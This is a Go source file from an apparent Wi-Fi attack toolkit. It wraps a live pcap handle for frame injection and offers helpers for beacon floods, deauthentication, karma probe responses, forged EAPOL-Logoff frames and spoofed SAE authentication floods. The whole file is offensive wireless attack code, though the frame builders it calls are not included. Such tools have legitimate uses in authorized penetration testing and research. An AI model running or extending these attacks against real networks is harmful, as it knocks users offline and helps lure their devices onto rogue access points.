package injection

import (
	"context"
	"fmt"
	"sync/atomic"

	"github.com/google/gopacket/pcap"

	"github.com/lcalzada-xor/wmap-radio/internal/core/ports"
)

// PcapInjector implements ports.PacketInjector over a live pcap handle,
// grounded directly on the teacher's injection/pcap_injector.go. A
// raw-socket alternative (the teacher also carries NewRawInjector) is not
// reproduced here: its AF_PACKET syscall plumbing cannot be grounded
// against anything this module can verify compiles, whereas pcap.OpenLive
// plus WritePacketData is exercised as-is by the teacher's own code.
type PcapInjector struct {
	handle *pcap.Handle
}

// NewPcapInjector opens iface for packet injection.
func NewPcapInjector(iface string) (*PcapInjector, error) {
	handle, err := pcap.OpenLive(iface, 1024, false, pcap.BlockForever)
	if err != nil {
		return nil, fmt.Errorf("injection: open %s: %w", iface, err)
	}
	return &PcapInjector{handle: handle}, nil
}

// Inject transmits frame. ctx is checked before the write so a caller can
// abandon a queued injection once its deadline has passed.
func (p *PcapInjector) Inject(ctx context.Context, frame []byte) error {
	if err := ctx.Err(); err != nil {
		return err
	}
	return p.handle.WritePacketData(frame)
}

// Close releases the underlying pcap handle.
func (p *PcapInjector) Close() error {
	p.handle.Close()
	return nil
}

var _ ports.PacketInjector = (*PcapInjector)(nil)

// Transmitter is the high-level frame-crafting API spec §4.9 exposes:
// broadcast beacon floods, deauthentication, and karma probe responses,
// each dispatched through a PacketInjector. Sequence numbers are a
// per-transmitter monotonically increasing counter, matching how a real
// NIC stamps outgoing management frames.
type Transmitter struct {
	injector ports.PacketInjector
	seq      uint32
}

// NewTransmitter wraps injector with frame-crafting helpers.
func NewTransmitter(injector ports.PacketInjector) *Transmitter {
	return &Transmitter{injector: injector}
}

func (t *Transmitter) nextSeq() uint16 {
	return uint16(atomic.AddUint32(&t.seq, 1) % 4096)
}

// BroadcastBeacon transmits a single beacon frame advertising ssid. When
// bssid is nil a fresh random MAC is used, the common case for a beacon
// flood where every frame should appear to come from a distinct AP.
func (t *Transmitter) BroadcastBeacon(ctx context.Context, ssid string, bssid []byte, channel uint8) error {
	mac := RandomMAC()
	if len(bssid) == 6 {
		mac = bssid
	}
	frame, err := BuildBeacon(ssid, mac, mac, channel, t.nextSeq())
	if err != nil {
		return err
	}
	return t.injector.Inject(ctx, frame)
}

// BroadcastDeauth transmits a single deauthentication frame from bssid
// targeting station (or the broadcast address for an AP-wide deauth).
func (t *Transmitter) BroadcastDeauth(ctx context.Context, bssid, station []byte, reasonCode uint16) error {
	frame, err := BuildDeauth(station, bssid, reasonCode, t.nextSeq())
	if err != nil {
		return err
	}
	return t.injector.Inject(ctx, frame)
}

// KarmaRespond answers a probe request for ssid with a probe response
// from bssid addressed to the requesting station.
func (t *Transmitter) KarmaRespond(ctx context.Context, ssid string, station, bssid []byte, channel uint8) error {
	frame, err := BuildProbeResponse(ssid, station, bssid, channel, t.nextSeq())
	if err != nil {
		return err
	}
	return t.injector.Inject(ctx, frame)
}

// BroadcastEAPOLLogoff transmits a single forged EAPOL-Logoff frame as if
// sent by station to bssid.
func (t *Transmitter) BroadcastEAPOLLogoff(ctx context.Context, station, bssid []byte) error {
	frame, err := BuildEAPOLLogoff(station, bssid, t.nextSeq())
	if err != nil {
		return err
	}
	return t.injector.Inject(ctx, frame)
}

// FloodSAEAuth transmits a single forged SAE commit authentication frame
// from a spoofed station address targeting bssid.
func (t *Transmitter) FloodSAEAuth(ctx context.Context, bssid []byte) error {
	src := RandomMAC()
	frame, err := BuildSAEAuthFlood(src, bssid, t.nextSeq())
	if err != nil {
		return err
	}
	return t.injector.Inject(ctx, frame)
}
